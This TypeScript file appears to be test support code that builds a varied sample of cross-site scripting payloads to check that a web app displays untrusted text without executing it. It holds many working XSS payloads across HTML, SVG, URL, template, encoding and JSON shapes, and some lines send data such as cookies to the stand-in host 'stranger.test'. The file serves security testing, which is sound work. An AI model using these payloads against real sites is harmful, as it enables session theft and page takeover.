/**
 * Texts that become a script wherever text is treated as markup, an address, a template or code.
 * Each combines a shape with code that sets the sentinel `__pwn`, opens a dialog or requests a
 * foreign server. A page that displays them as text does none of it.
 */
export function payloads(count: number): readonly string[] {
  const all = SHAPES.flatMap((shape, row) =>
    RUNS.map((_, column) => shape(RUNS[(row + column) % RUNS.length] ?? "__pwn=1")),
  )
  const distinct = [...new Set(all)]
  if (distinct.length < count) throw new Error(`only ${distinct.length} payloads for ${count}`)
  // Spread the sample over all shapes.
  const step = distinct.length / count
  return Array.from({ length: count }, (_, i) => distinct[Math.floor(i * step)] ?? "")
}

/** No browser of these tests resolves this host: a request to it is a finding. */
const STRANGER = "http://stranger.test"

const RUNS = [
  "__pwn=1",
  "window.__pwn=2",
  "self['__p'+'wn']=3",
  "alert(1)",
  "top[`__pwn`]=4",
  "globalThis.__pwn=document.cookie",
  `fetch('${STRANGER}/steal')`,
]

const entities = (text: string): string =>
  [...text].map((it) => `&#x${it.codePointAt(0)?.toString(16)};`).join("")
const escapes = (text: string): string =>
  [...text].map((it) => `\\u${it.charCodeAt(0).toString(16).padStart(4, "0")}`).join("")
const wide = (text: string): string => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e")

type Shape = (run: string) => string

const CLASSIC: readonly Shape[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script src=${STRANGER}/x.js></script><!--${run}-->`,
  (run) => `</title></textarea></style></script><script>${run}</script>`,
  (run) => `<!--><img src=x onerror="${run}">-->`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
]
const HANDLERS: readonly Shape[] = [
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img src=${STRANGER}/pixel.png onload="${run}" onerror="${run}">`,
  (run) => `<body onload="${run}">`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<details open ontoggle="${run}"><summary>x</summary></details>`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<audio src=x onerror="${run}">`,
  (run) => `<marquee onstart="${run}">x</marquee>`,
  (run) => `<select autofocus onfocus="${run}"><option>x</select>`,
  (run) => `<div style="animation:x 1s" onanimationstart="${run}">x</div>`,
]
const ATTRIBUTES: readonly Shape[] = [
  (run) => `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  (run) => `' onfocus='${run}' autofocus tabindex=0 x='`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><svg onload=${run}>`,
  (run) => `x\` onerror=\`${run}`,
  (run) => `" style="background:url(${STRANGER}/style)" onclick="${run}`,
]
const ADDRESSES: readonly Shape[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}//`,
  (run) => `java\tscript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  (run) => `<a href="javascript:${run}" autofocus>x</a><iframe src="javascript:${run}"></iframe>`,
  (run) => `[click](javascript:${run}) ![x](${STRANGER}/image.png)`,
  (run) => `//stranger.test/%0d%0aSet-Cookie:x=${encodeURIComponent(run)}`,
]
const DRAWINGS: readonly Shape[] = [
  (run) => `<svg onload="${run}">`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"></svg>`,
  (run) => `<svg><image href="${STRANGER}/drawing.svg" onerror="${run}"/></svg>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  (run) => `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
]
const TEMPLATES: readonly Shape[] = [
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `\${${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `#{${run}}`,
  (run) => `<template><img src=x onerror="${run}"></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
]
const LETTERS: readonly Shape[] = [
  (run) => `<img src=x onerror="${entities(run)}">`,
  (run) => `<script>eval("${escapes(run)}")</script>`,
  (run) => wide(`<script>${run}</script>`),
  (run) => `\u202e<img src=x onerror="${run}">\u202c`,
  (run) => `<\u200bscript>${run}</script><img\u00a0src=x onerror="${run}">`,
  (run) => `\ud83d\ude80"><img src=x onerror="${run}">\ufeff`,
]
const JSON_IN_HTML: readonly Shape[] = [
  (run) => `{"x":"</script><script>${run}</script>"}`,
  (run) => `"}];${run};//`,
  (run) => `\u2028${run}\u2029`,
  (run) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
  (run) => `<iframe srcdoc="${entities(`<script>${run}</script>`)}"></iframe>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href=${STRANGER}><form action=javascript:${run}><button autofocus>x</form>`,
  (run) => `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  (run) => `<link rel=stylesheet href=${STRANGER}/x.css onerror="${run}">`,
]

const SHAPES: readonly Shape[] = [
  ...CLASSIC,
  ...HANDLERS,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...DRAWINGS,
  ...TEMPLATES,
  ...LETTERS,
  ...JSON_IN_HTML,
]
